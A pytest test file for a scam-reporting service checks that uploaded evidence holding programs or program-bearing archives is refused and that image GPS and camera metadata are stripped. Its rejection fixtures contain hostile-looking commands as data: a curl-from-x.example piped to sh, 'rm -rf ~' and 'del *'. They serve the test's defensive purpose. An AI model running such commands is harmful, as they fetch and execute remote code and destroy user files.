"""Evidence safety in the core: programs and archives holding them are refused by content;
images are stored without their metadata, with the hash of what the reporter sent."""

from __future__ import annotations

import gzip
import hashlib
import io
import tarfile
from pathlib import Path

import pytest

from scamreport.evidence_safety import UnsafeEvidence, check_safe, strip_image_metadata
from scamreport.storage.evidence_files import EvidenceFiles
from tests.evidence_samples import elf_program, gps_of, jpeg_with_gps, pe_program, zip_of

PNG_HEADER = b"\x89PNG\r\n\x1a\n"


def tar_gz_of(name: str, data: bytes, mode: int = 0o644) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        info = tarfile.TarInfo(name)
        info.size, info.mode = len(data), mode
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (elf_program(), "executable"),
        (pe_program(), "executable"),
        (b"\xcf\xfa\xed\xfe" + b"\x00" * 60, "executable"),  # Mach-O 64-bit
        (b"#!/bin/sh\ncurl http://x.example/a | sh\n", "executable"),
        (b"\xef\xbb\xbf#!/usr/bin/env python3\nprint(1)\n", "executable"),
        # The program renamed inside the archive: found by its content.
        (zip_of({"receipt.pdf": elf_program()}), "archive_with_executable"),
        (
            zip_of({"photos/IMG_0001.jpg": b"\xff\xd8\xff", "Setup.exe": b"x"}),
            "archive_with_executable",
        ),
        (zip_of({"inner.zip": zip_of({"invoice.txt": pe_program()})}), "archive_with_executable"),
        (tar_gz_of("notes.txt", b"#!/bin/bash\nrm -rf ~\n"), "archive_with_executable"),
        (gzip.compress(elf_program()), "archive_with_executable"),
        (b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40, "archive_unreadable"),
        (b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40, "archive_unreadable"),
        # A photo with a zip appended still opens as a zip.
        (jpeg_with_gps() + zip_of({"run.bat": b"del *"}), "archive_with_executable"),
    ],
)
def test_programs_and_archives_holding_them_are_refused(data: bytes, reason: str) -> None:
    with pytest.raises(UnsafeEvidence) as refused:
        check_safe(data)
    assert refused.value.reason == reason


@pytest.mark.parametrize(
    "data",
    [
        jpeg_with_gps(),
        PNG_HEADER + b"\x00" * 40,
        b"%PDF-1.7\n%%EOF\n",
        b"MZ was the caller's initials, he said\n",
        b"From: bank@example.com\nSubject: verify\n\nclick here",
        zip_of({"statement.pdf": b"%PDF-1.7\n%%EOF\n"}),
        # A PDF whose last bytes look like the end of a zip by chance is still kept.
        b"%PDF-1.7\n"
        + b"x" * 100
        + b"PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00\x2e\x00\x00\x00\x00\x00\x00\x00\x00\x00",
    ],
)
def test_ordinary_evidence_passes(data: bytes) -> None:
    check_safe(data)


def test_gps_and_camera_metadata_are_removed_but_the_picture_is_kept() -> None:
    from PIL import Image

    original = jpeg_with_gps()
    assert gps_of(original)
    stripped = strip_image_metadata(original, "image/jpeg")
    assert stripped is not None and stripped != original
    assert gps_of(stripped) == {}
    assert b"PhoneMaker" not in stripped and b"Exif" not in stripped
    with Image.open(io.BytesIO(stripped)) as image:
        assert image.size == (64, 48) and not image.getexif()
    # Not an image Pillow handles here: kept as sent.
    assert strip_image_metadata(b"%PDF-1.7\n", "application/pdf") is None
    assert strip_image_metadata(b"\xff\xd8\xff broken", "image/jpeg") is None


def test_the_store_keeps_the_stripped_file_and_the_originals_hash(tmp_path: Path) -> None:
    store = EvidenceFiles(tmp_path)
    original = jpeg_with_gps()
    blob = store.save(original, mime_type="image/jpeg", filename="IMG_0001.jpg")
    kept = store.path_of(blob.storage_path).read_bytes()
    assert blob.sha256 == hashlib.sha256(original).hexdigest()
    assert blob.size_bytes == len(original)
    assert blob.stored_sha256 == hashlib.sha256(kept).hexdigest() != blob.sha256
    assert blob.storage_path == f"{blob.stored_sha256[:2]}/{blob.stored_sha256}"
    assert gps_of(kept) == {}
    # Anything else is kept byte for byte, under its own hash.
    pdf = store.save(b"%PDF-1.7\n%%EOF\n", mime_type="application/pdf")
    assert pdf.stored_sha256 is None
    # The store refuses a program whoever calls it.
    with pytest.raises(UnsafeEvidence):
        store.save(elf_program())
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == sorted(
        [blob.stored_sha256, pdf.sha256]
    )
